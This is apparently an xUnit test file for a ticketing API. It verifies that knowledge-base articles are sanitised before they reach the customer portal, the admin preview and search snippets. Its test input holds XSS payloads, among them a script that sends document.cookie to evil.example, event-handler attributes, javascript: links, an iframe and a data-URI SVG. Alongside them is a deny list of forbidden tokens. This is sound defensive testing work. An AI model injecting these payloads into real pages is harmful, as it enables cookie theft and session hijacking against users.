using Ticketing.Api.Tests.Identity;
using static Ticketing.Api.Tests.Identity.IdentityHttp;

namespace Ticketing.Api.Tests.KnowledgeBase;

public sealed class SanitisingApiTests(IdentityApiFactory api) : IClassFixture<IdentityApiFactory>
{
    private const string Hostile = """
        # Fix the scanner

        <script>fetch('https://evil.example/?c=' + document.cookie)</script>
        <img src="https://cdn.example/x.png" onerror="alert('img')">
        <p onmouseover="alert('hover')">Hover me</p>

        [Open the guide](javascript:alert('link')) and <a href="jAvAsCrIpT:alert('raw')">this</a>.

        <iframe src="https://evil.example/frame"></iframe>

        ![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
        """;

    [Fact]
    public async Task Script_event_handlers_and_javascript_links_never_reach_the_portal_or_the_preview()
    {
        var admin = await api.AdminAsync();
        var (_, contact, _) = await api.CustomerWithContactAsync(admin);
        var section = await admin.CreateSectionAsync(await admin.CreateCategoryAsync("Scanners"), "Scanners");
        var id = await admin.CreateArticleAsync(section, "Scanner", Hostile, keywords: ["scanner"]);

        var portal = (await contact.GetAsync(Url($"/api/portal/kb/articles/{id}")).OkAsync()).GetProperty("bodyHtml").GetString()!;
        var preview = (await admin.GetAsync(Url($"/api/kb/articles/{id}")).OkAsync()).GetProperty("bodyHtml").GetString()!;
        var snippet = (await contact.GetAsync(Url("/api/portal/kb/search?q=scanner")).OkAsync()).GetProperty("items")[0].GetProperty("snippet").GetString()!;

        foreach (var html in new[] { portal, preview })
        {
            html.ShouldContain("<h1");
            html.ShouldContain("Hover me");
            html.ShouldContain("<img src=\"https://cdn.example/x.png\">");
            foreach (var forbidden in new[] { "<script", "onerror", "onmouseover", "javascript:", "<iframe", "data:", "alert(" })
            {
                html.ShouldNotContain(forbidden, Case.Insensitive);
            }
        }

        snippet.ShouldNotContain("<script", Case.Insensitive);
        snippet.ShouldNotContain("document.cookie");
        (await api.ScalarAsync<string>("select body_text from kb_articles where id = $1", id)).ShouldNotContain("evil.example");
    }
}
